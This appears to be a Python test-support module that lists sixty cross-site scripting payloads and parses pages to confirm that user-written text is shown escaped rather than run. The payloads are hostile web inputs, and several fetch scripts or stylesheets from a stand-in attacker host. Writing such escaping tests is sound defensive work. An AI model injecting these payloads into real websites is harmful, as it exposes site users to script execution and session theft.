"""Sixty scripts that somebody may write where words are expected, and how to see that a page shows them as text."""

from html.parser import HTMLParser

SCRIPTS: tuple[str, ...] = (
    # elements that run at once
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    # elements that run when something happens
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)' />",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onmouseover=alert(1)>her</p>",
    "<a href=# onclick=alert(1)>her</a>",
    "<button onclick=alert(1)>her</button>",
    "<div style='animation-name:x' onanimationstart=alert(1)></div>",
    "<b hx-get=/sign-out hx-trigger=load>x</b>",
    "<b hx-on:load='alert(1)'>x</b>",
    # addresses that run
    "<a href=javascript:alert(1)>her</a>",
    '<a href="jAvAsCrIpT:alert(1)">her</a>',
    '<a href="java\tscript:alert(1)">her</a>',
    '<a href="&#106;avascript:alert(1)">her</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>her</button></form>",
    "<form><button formaction=javascript:alert(1)>her</button></form>",
    "<math><a xlink:href=javascript:alert(1)>her</a></math>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    # breaking out of where words stand
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" onfocus="alert(1)" autofocus="',
    "' onfocus='alert(1)' autofocus='",
    "--><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>{% endraw %}",
)
"""None of them may ever run, and each must come back letter by letter, because people may write what they like."""

_RUNS = frozenset({"iframe", "object", "embed", "base", "marquee", "math", "style", "audio", "video", "frame"})


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.live: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name: value or "" for name, value in attrs}
        self.text.extend(named.values())
        if tag in _RUNS or (tag == "script" and not named.get("src", "").startswith("/static/")):
            self.live.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in named:
            self.live.append("<meta http-equiv>")
        for name, value in named.items():
            if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc", "formaction"}:
                self.live.append(f"{tag} {name}")
            if "".join(value.split()).lower().startswith(("javascript:", "data:", "vbscript:")):
                self.live.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def live_parts(html: str) -> list[str]:
    """Name everything on a page that would run or load something that is not ours; none is right."""
    page = _Page()
    page.feed(html)
    page.close()
    return page.live


def text_of(html: str) -> str:
    """Put together all that a page shows as text or holds in its fields."""
    page = _Page()
    page.feed(html)
    page.close()
    return "".join(page.text)


def shows(html: str, words: str) -> bool:
    """Tell whether a page shows some words letter by letter, as text or in a field."""
    return words.strip() in text_of(html)
